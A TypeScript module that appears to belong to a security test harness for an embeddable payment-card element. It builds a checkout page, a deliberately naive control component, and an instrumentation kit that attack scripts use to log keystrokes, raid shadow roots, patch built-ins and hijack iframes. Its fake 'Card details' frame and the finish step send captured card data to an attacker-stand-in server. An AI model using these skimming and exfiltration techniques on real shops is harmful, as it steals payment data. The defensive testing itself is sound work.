/**
 * The scripts of the page under attack. `INSTRUMENT` is ours and runs first: it notes what the element reports, and gives the attacks
 * tools that no other attack can break. `NAIVE` is the control: what a developer writes who thinks a closed shadow root protects; it
 * runs last, so that every attack can reach it.
 */
import type { Attack, Order } from './attack.ts';

export interface PageConfig {
  /** Letters only, so that no digit of a card is found in it. */
  readonly run: string;
  readonly order: Order;
  readonly evil: string;
  readonly control: string;
  /** Address of our script. */
  readonly script: string;
  /** Pairs of neighbouring digits of the card and of the control, for style sheets that must name them. */
  readonly pairs: readonly string[];
}

export const instrument = (config: PageConfig): string => `window.__config = ${JSON.stringify(config)};\n${INSTRUMENT}`;

/** Each attack in a scope of its own; one that throws is a broken attack, not a defence. */
export const attackScript = (attacks: readonly Attack[]): string =>
  attacks.map(({ id, script }) => `__kit(${JSON.stringify(id)}, (kit) => {
    const { until, roundTrip, steal, typed, own, raid, seize, patch, crawl, moment, atEnd, hosts, whenHosts, listen, FAKE, EVIL, SCRIPT, order, PAIRS } = kit;
    ${script}
  });`).join('\n');

const INSTRUMENT = String.raw`(() => {
  const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf } = Reflect;
  const { hasOwn } = Object;
  const config = window.__config;
  const page = document;
  const by = (prototype, name) => { const original = prototype[name]; return (self, ...values) => apply(original, self, values); };
  const getter = (prototype, name) => { const { get } = getOwnPropertyDescriptor(prototype, name); return (self) => apply(get, self, []); };
  const listen = by(EventTarget.prototype, 'addEventListener');
  const query = by(Element.prototype, 'querySelectorAll');
  const queryIn = by(DocumentFragment.prototype, 'querySelectorAll');
  const queryPage = by(Document.prototype, 'querySelectorAll');
  const setAttribute = by(Element.prototype, 'setAttribute');
  const getAttribute = by(Element.prototype, 'getAttribute');
  const rootOf = by(Node.prototype, 'getRootNode');
  const valueOf = getter(HTMLInputElement.prototype, 'value');
  const contentDocument = getter(HTMLIFrameElement.prototype, 'contentDocument');
  const contentWindow = getter(HTMLIFrameElement.prototype, 'contentWindow');
  const innerHtml = getter(ShadowRoot.prototype, 'innerHTML');
  const Observer = MutationObserver;
  const observe = by(Observer.prototype, 'observe');
  const Root = ShadowRoot, Frame = HTMLIFrameElement, Input = HTMLInputElement, Page = Document, Port = MessagePort, AnyNode = Node, Happening = Event;
  const send = window.fetch.bind(window), json = JSON.stringify, after = window.setTimeout.bind(window), Made = Promise, Channel = MessageChannel;
  // the 20 s that the element gives its document to load are 8 s here: some policies keep it from ever coming
  window.setTimeout = (work, delay, ...values) => after(work, delay === 20_000 ? 8_000 : delay, ...values);
  const has = by(WeakSet.prototype, 'has'), mark = by(WeakSet.prototype, 'add');

  // what each attack got: texts, never arrays, because arrays are what some attacks change
  const loot = { __proto__: null };
  const owned = { __proto__: null };
  const failures = { __proto__: null };
  const LIMIT = 4_000_000;
  let inside = 0;
  const quiet = (work) => {
    inside += 1;
    try { return work(); } catch { return undefined; } finally { inside -= 1; }
  };
  /** For what a patched function shows: what our own tools do is no loot, and never goes round in circles. */
  const guarded = (work) => (inside ? undefined : quiet(work));
  /** What was noted before tells nothing more: the element reads its style again and again, which would fill up what an attack may hold. */
  const noted = { __proto__: null };
  const add = (store, id, text) => {
    if (text.length > 40 && noted[id + text]) return; // what is short may be one key after another
    noted[id + text] = true;
    const before = store[id] ?? '';
    if (before.length < LIMIT) store[id] = before + text;
  };

  /** Everything that can be read out of a value: its texts, and those of what it holds. */
  const textOf = (value, depth) => {
    if (typeof value === 'string') return value;
    if (typeof value === 'number' || typeof value === 'bigint') return '' + value;
    if (typeof value !== 'object' || value === null || depth > 4) return '';
    if (value instanceof Input) return valueOf(value);
    if (value instanceof AnyNode || value === window || value instanceof EventTarget) return '';
    if (value instanceof Happening) return textOf(value.data, depth + 1) + ' ' + textOf(value.key, depth + 1);
    let text = '';
    let keys = ownKeys(value);
    for (let at = 0; at < keys.length && at < 200; at += 1) {
      const found = getOwnPropertyDescriptor(value, keys[at]);
      if (!found || !hasOwn(found, 'value')) continue;
      text = text + ' ' + (typeof keys[at] === 'string' ? keys[at] + '=' : '') + textOf(found.value, depth + 1);
    }
    return text;
  };

  const moments = [];
  const ends = [];
  const pushTo = (list, work) => defineProperty(list, list.length, { __proto__: null, value: work, configurable: true, writable: true, enumerable: true });

  const runAll = async (list) => {
    for (let at = 0; at < list.length; at += 1) {
      try { await list[at](); } catch (error) { void error; }
    }
  };

  /** Frames without a name that an attack has in its hands: still to be navigated, and navigated. */
  let pending = 0, navigated = 0;
  const kitFor = (id) => {
    const seen = new WeakSet();
    const steal = (...values) => quiet(() => { for (let at = 0; at < values.length; at += 1) add(loot, id, '\n' + textOf(values[at], 0)); });
    const typed = (character) => quiet(() => { if (typeof character === 'string' && character.length < 3) add(loot, id + ' typed', character); });
    const own = (text) => quiet(() => { owned[id] = text; });
    const FAKE = config.evil + '/' + config.run + '/fake/' + id;
    const EVIL = config.evil + '/' + config.run + '/css/' + id;

    /** A frame in the attacker's hands: what is in it is read if it can be, then another document is put into it. */
    const seize = (frame, how = 'after-load') => quiet(() => {
      if (!frame || has(seen, frame)) return;
      if (how === 'at-once' && !contentWindow(frame)) return; // not in the page yet
      mark(seen, frame);
      const read = () => {
        try {
          const inner = contentDocument(frame);
          if (!inner) return;
          const visit = (root) => {
            for (const element of inner === root ? queryPage(root, '*') : queryIn(root, '*')) {
              if (element.localName === 'input') steal(element.value);
              if (element.shadowRoot) visit(element.shadowRoot);
            }
          };
          visit(inner);
        } catch (error) { void error; }
      };
      const isNameless = !getAttribute(frame, 'name');
      const navigate = () => { read(); setAttribute(frame, 'src', FAKE); if (isNameless) navigated += 1; };
      pushTo(moments, read);
      if (how === 'read') return;
      if (how === 'at-once') { contentWindow(frame).location = FAKE; if (isNameless) navigated += 1; }
      else {
        let isDone = false;
        if (isNameless) pending += 1;
        const once = () => { if (!isDone) { isDone = true; after(() => { navigate(); if (isNameless) pending -= 1; }, 0); } };
        listen(frame, 'load', once);
        after(once, 2500); // it had loaded before we came
      }
    });

    /** A root in the attacker's hands: every key and value in it, now and later, and every frame. */
    const raid = (root, how) => quiet(() => {
      if (!root || has(seen, root)) return;
      mark(seen, root);
      listen(root, 'keydown', (event) => typed(event.key), true);
      listen(root, 'input', (event) => steal(event.target.value), true);
      const look = () => {
        for (const element of queryIn(root, '*')) {
          if (element instanceof Input) steal(valueOf(element));
          if (element instanceof Frame) seize(element, how);
        }
      };
      observe(new Observer(() => quiet(look)), root, { childList: true, subtree: true });
      look();
      pushTo(moments, () => quiet(() => { look(); steal(innerHtml(root)); }));
    });

    /** Replaces a method, an accessor or both by one that first does the real thing, then shows what it saw. */
    const patch = (owner, name, look) => {
      const found = owner && getOwnPropertyDescriptor(owner, name);
      if (!found || !found.configurable) return;
      const wrap = (original, kind) => {
        if (typeof original !== 'function') return original;
        const wrapper = function (...values) {
          guarded(() => look(this, values, undefined, kind));
          const result = new.target ? construct(original, values, new.target === wrapper ? original : new.target) : apply(original, this, values);
          if (result !== undefined) guarded(() => look(this, values, result, kind));
          return result;
        };
        if (hasOwn(original, 'prototype')) { try { wrapper.prototype = original.prototype; } catch (error) { void error; } }
        for (const key of ownKeys(original)) {
          if (hasOwn(wrapper, key) || typeof original[key] !== 'function') continue;
          try { wrapper[key] = original[key]; } catch (error) { void error; }
        }
        return wrapper;
      };
      const changed = { __proto__: null, configurable: true, enumerable: found.enumerable };
      if (hasOwn(found, 'value')) { changed.value = wrap(found.value, 'call'); changed.writable = true; }
      else { changed.get = wrap(found.get, 'get'); changed.set = wrap(found.set, 'set'); }
      defineProperty(owner, name, changed);
    };

    /** Follows every property of a thing, public or private by convention, to roots, frames and texts. */
    const crawl = (start) => {
      const visited = new WeakSet();
      const visit = (thing, depth) => {
        if (thing === null || (typeof thing !== 'object' && typeof thing !== 'function') || depth > 5) return;
        if (thing === window || thing === page || thing instanceof Page || has(visited, thing)) return;
        mark(visited, thing);
        if (thing instanceof Root) { raid(thing); return; }
        if (thing instanceof Frame) { seize(thing); return; }
        if (thing instanceof AnyNode) {
          const root = rootOf(thing);
          if (root instanceof Root) { raid(root); return; }
          if (thing !== start) return;
        }
        for (let owner = thing; owner && owner !== HTMLElement.prototype && owner !== Object.prototype && owner !== Function.prototype; owner = getPrototypeOf(owner)) {
          for (const key of ownKeys(owner)) {
            let value;
            try { value = owner === thing ? thing[key] : apply(getOwnPropertyDescriptor(owner, key).get ?? (() => undefined), thing, []); } catch { continue; }
            if (typeof value === 'string') steal(value);
            else visit(value, depth + 1);
          }
        }
        if (thing instanceof Map || thing instanceof Set) for (const entry of thing) visit(entry, depth + 1);
      };
      visit(start, 0);
    };

    const hosts = () => [...queryPage(page, 'naive-card, naive-frame, shoji-card')];
    /** When the document is there, and its elements with it. */
    const whenHosts = (work) => {
      if (page.readyState === 'loading') listen(page, 'DOMContentLoaded', () => after(() => work(hosts()), 0));
      else after(() => work(hosts()), 0);
    };
    /** Until it is so; an attack that gets no answer goes on. */
    const until = (isSo) => new Made((done) => {
      const look = (times) => { if (times === 0 || isSo()) done(); else after(() => look(times - 1), 10); };
      look(300);
    });
    /** A frame of the control's has answered: whatever was said to our frame before has been heard, too. */
    const roundTrip = () => {
      const { port1, port2 } = new Channel();
      let isHeard = false;
      port1.onmessage = () => { isHeard = true; };
      window[0]?.postMessage({ type: 'getValue' }, '*', [port2]);
      return until(() => isHeard);
    };
    const moment = (work) => pushTo(moments, work);
    const atEnd = (work) => pushTo(ends, work);
    return { until, roundTrip, steal, typed, own, raid, seize, patch, crawl, moment, atEnd, hosts, whenHosts, listen, contentWindow, getAttribute, setAttribute, query, guarded,
      FAKE, EVIL, SCRIPT: config.script, order: config.order, PAIRS: config.pairs };
  };

  window.__kit = (id, run) => {
    try { run(kitFor(id)); } catch (error) { failures[id] = String(error?.stack ?? error); }
  };

  // what the shop is told, and how the payment stands
  const reports = [];
  const issued = [];
  const uncaught = [];
  listen(page, 'shoji-error', (event) => pushTo(reports, event.error?.code));
  listen(page, 'shoji-token', (event) => pushTo(issued, { tokens: [...event.tokens], maskedNumber: event.maskedNumber, expiresAt: event.expiresAt }));
  listen(window, 'error', (event) => pushTo(uncaught, '' + event.message));
  listen(window, 'unhandledrejection', (event) => pushTo(uncaught, '' + event.reason));
  const defined = customElements.get.bind(customElements);
  const genuine = () => {
    const card = page.getElementById('card');
    let state = 'none';
    let isComplete = false;
    // one whose constructor failed has the class, and nothing of what the constructor makes
    try { state = card?.state ?? (card ? 'not upgraded' : 'none'); isComplete = card?.complete === true; } catch { state = 'not upgraded'; }
    const active = page.activeElement;
    return { state, isDefined: defined('shoji-card') !== undefined, isComplete, focusIn: active === page.body ? 'body' : active?.id ?? '' };
  };
  listen(page, 'submit', (event) => { event.preventDefault(); }, false);

  const safe = (store) => { const copy = {}; for (const key of ownKeys(store)) copy[key] = store[key]; return copy; };
  window.__instrument = {
    now: () => ({ ...genuine(), pending, navigated, reports, uncaught, issued, isLoaded: page.readyState === 'complete', owned: safe(owned) }),
    /** The card is typed in: now the attacks do what they can do while it stands there; then the form is sent. */
    moment: async (isSubmitting) => {
      window.__naive?.pay();
      await runAll(moments);
      if (isSubmitting) page.getElementById('pay').requestSubmit(page.getElementById('submit'));
    },
    finish: async () => {
      await runAll(ends);
      const found = json({ loot: safe(loot), owned: safe(owned), failures: safe(failures) });
      await send(config.evil + '/' + config.run + '/loot', { method: 'POST', mode: 'no-cors', body: found });
      return true;
    },
  };
  Object.defineProperty(window, '__loot', { get: () => safe(loot) });
})();`;

/** Written without a thought of hostile scripts: public root, everything by way of the page's own built-ins. */
export const NAIVE = String.raw`(() => {
  const { control, run } = window.__config;
  const { src } = document.currentScript;
  const settings = {};

  class NaiveCard extends HTMLElement {
    connectedCallback() {
      this.renderRoot ??= this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
      if (this.renderRoot.firstChild) return;
      const template = document.createElement('template');
      template.innerHTML = '<label>Card <input id="number" part="number" name="cardno" autocomplete="off"></label><output></output>';
      this.renderRoot.append(template.content.cloneNode(true));
      const input = this.renderRoot.querySelector('input');
      this.renderRoot.addEventListener('input', (event) => {
        this.number = event.target.value;
        this.renderRoot.querySelector('output').textContent = input.value;
      });
    }
    pay() {
      const number = String(this.renderRoot.querySelector('input').value.replace(/\D/g, ''));
      const card = {};
      card.cardno = number;
      card.number = number;
      const digits = Array.from(number, (digit) => digit).map(String);
      const list = [];
      list[0] = number;
      list.push(digits.join(''));
      const body = JSON.stringify({ card: { cardno: number } });
      Promise.resolve(number).then((sent) => sent.trim());
      console.debug('paying with', number);
      try { history.replaceState({ number }, '', '#' + number); } catch { /* asked too often */ }
      try { localStorage.setItem('card', number); } catch { /* no storage */ }
      const form = new FormData();
      form.set('cardno', number);
      btoa(number);
      new TextEncoder().encode(number);
      void fetch('/run/' + run + '/naive-token?number=' + number, { method: 'POST', body }).catch(() => undefined);
      const { port1, port2 } = new MessageChannel();
      port2.onmessage = ({ data }) => void data.number;
      port1.postMessage({ type: 'pay', number });
      void import('/run/' + run + '/naive-module.js').then((module) => module.pay({ number }));
      void Promise.resolve({ number }).then(() => undefined);
      window.Multipayment?.getToken?.({ cardno: number }, () => undefined);
    }
  }

  /** A frame with a name, in a closed root, that tells its parent everything. The document has the number typed in already. */
  class NaiveFrame extends HTMLElement {
    connectedCallback() {
      this.renderRoot ??= this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
      const host = document.createElement('div');
      const address = settings.hostedUrl ?? settings.frameUrl ?? this.getAttribute('src');
      host.innerHTML = '<iframe name="naive-frame" title="naive" tabindex="-1" src="' + address + '"></iframe>';
      const frame = host.firstElementChild;
      const again = document.createElement('iframe');
      again.name ||= 'naive-again';
      again.tabIndex = -1;
      again.setAttribute('src', new URL(this.getAttribute('hosted-url') ?? '../../naive-frame', src).href);
      this.renderRoot.append(frame, again);
    }
  }

  window.Multipayment = { init() {}, getToken(card, callback) { callback({ card }); } };
  customElements.define('naive-card', NaiveCard);
  if (document.querySelector('naive-frame')) customElements.define('naive-frame', NaiveFrame);
  const plain = document.getElementById('control-number');
  plain.addEventListener('input', () => {
    plain.setAttribute('value', plain.value); // as some frameworks do
    document.getElementById('preview').textContent = plain.value;
  });
  window.__naive = { pay: () => document.querySelector('naive-card').pay() };
  void control;
})();`;

/** Inside the control's frame: answers whoever asks. */
export const naiveFrame = (control: string): string => `<!doctype html><meta charset="utf-8"><title>naive</title>
<input id="inner" tabindex="-1" value="${control}"><script>
const number = document.getElementById('inner').value;
parent.postMessage({ type: 'state', number }, '*');
addEventListener('message', ({ data, source, ports }) => {
  if (data?.type === 'init' || data?.type === 'getValue' || data?.type === 'tokenize') (ports[0] ?? source).postMessage({ type: 'value', number }, ...(ports[0] ? [] : ['*']));
});
</script>`;

/** What the attacker puts into a frame: it looks like ours, and keeps what is typed. */
export const fakeFrame = (run: string, attack: string): string => `<!doctype html><meta charset="utf-8"><title>Card details</title>
<input id="number"><input id="expiry"><input id="cvc"><script>
const tell = (text) => fetch('/${run}/own/${attack}?window=' + encodeURIComponent(name), { method: 'POST', body: text });
tell('arrived');
addEventListener('input', () => tell('typed ' + [...document.querySelectorAll('input')].map(({ value }) => value).join(' ')));
addEventListener('message', ({ data, ports: [port] }) => {
  tell('heard ' + JSON.stringify(data));
  port?.postMessage({ type: 'ready' }); // as if it were ours
});
</script>`;

export interface PageOptions {
  readonly run: string;
  readonly script: string;
  readonly scriptIntegrity: string | null;
  readonly head: string;
  readonly tail: string;
  /** Attributes. */
  readonly shop: string;
  readonly hostedUrl: string | null;
  readonly order: Order;
  /** Frames of the control, which cost time: only where an attack wants them. */
  readonly withFrames: boolean;
  readonly naiveFrame: string;
}

/** The shop's page. Everything is an external script, as a merchant's policy would want it. */
export function shopPage({ run, script, shop, hostedUrl, order, withFrames, naiveFrame: address, scriptIntegrity, head, tail }: PageOptions): string {
  const attack = `<script src="/run/${run}/attack.js"></script>`;
  const hosted = hostedUrl === null ? '' : ` hosted-url="${hostedUrl}"`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout</title>
<link rel="stylesheet" href="/run/${run}/shop.css">
<script src="/run/${run}/instrument.js"></script>
${order === 'before' ? attack : ''}
${head}
<script src="${script}"${scriptIntegrity === null ? '' : ` integrity="${scriptIntegrity}"`} crossorigin></script>
</head><body>
<form id="pay" action="/run/${run}/paid" method="post">
<label>Control <input id="control-number" name="cardnumber" autocomplete="off"></label><output id="preview"></output>
<naive-card></naive-card>
<shoji-card id="card" name="token" fields="number expiry cvc" environment="test" ${shop}${hosted}></shoji-card>
<button id="submit">Pay</button>
</form>
${Array.from({ length: 5 }, () => '<button type="button">more</button>').join('')}
${withFrames ? `<iframe name="naive-light" title="naive" tabindex="-1" src="${address}"></iframe><naive-frame src="${address}"></naive-frame>` : ''}
${order === 'after' ? attack : ''}
<script src="/run/${run}/naive.js"></script>
${tail}
</body></html>`;
}

export const SHOP_STYLES = `
@keyframes breathe { from { color: #111 } to { color: #222 } }
#control-number { animation: breathe 1s infinite alternate }
shoji-card, naive-card, naive-frame { display: block; max-inline-size: 480px }
iframe[name=naive-light] { inline-size: 200px; block-size: 60px }
`;
